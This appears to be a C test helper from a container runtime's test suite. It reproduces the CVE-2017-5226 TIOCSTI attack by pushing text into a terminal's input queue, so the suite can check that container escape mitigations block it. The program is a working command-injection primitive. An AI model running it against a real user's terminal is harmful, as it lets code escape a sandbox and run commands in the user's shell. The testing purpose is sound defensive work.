/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tiocsti: the CVE-2017-5226 attacker, run inside a container (or on the
 * host, as a control) by the terminal and escape tests.  It pushes TEXT
 * into the input queue of the terminal on FD with ioctl(TIOCSTI), one byte
 * at a time, as if typed at it: if that terminal is the caller's, whatever
 * reads it next (the caller's shell, once the container exits) runs TEXT.
 * The tests give it a pty of their own that nothing runs, so the text is
 * never executed.
 *
 *   tiocsti FD TEXT
 *
 * Output, key=value lines:
 *   isatty=1|0               FD is a terminal
 *   sid=N pgrp=N pid=N       (one line each) its session, group and pid
 *   ctty=1|0                 FD is its controlling terminal (TIOCGSID works)
 *   tiocsti=OK | tiocsti=ERRNO_NAME   (EPERM: not the controlling terminal;
 *                            EIO: dev.tty.legacy_tiocsti is 0)
 * Exit status 0 whatever TIOCSTI answered (the answer is in the output),
 * 2 on bad usage.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	pid_t tty_sid;
	const char *text;
	char *end;
	long fd;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc != 3) {
		fprintf(stderr, "usage: tiocsti FD TEXT\n");
		return 2;
	}
	fd = strtol(argv[1], &end, 10);
	if (*end || fd < 0 || fd > 1024) {
		fprintf(stderr, "tiocsti: bad fd %s\n", argv[1]);
		return 2;
	}
	text = argv[2];
	printf("isatty=%d\n", isatty((int)fd) ? 1 : 0);
	printf("sid=%d\n", (int)getsid(0));
	printf("pgrp=%d\n", (int)getpgrp());
	printf("pid=%d\n", (int)getpid());
	printf("ctty=%d\n", ioctl((int)fd, TIOCGSID, &tty_sid) == 0 ? 1 : 0);
	for (const char *p = text; *p; p++) {
		if (ioctl((int)fd, TIOCSTI, p) < 0) {
			const char *n = strerrorname_np(errno);
			printf("tiocsti=%s\n", n ? n : "E?");
			return 0;
		}
	}
	printf("tiocsti=OK\n");
	return 0;
}
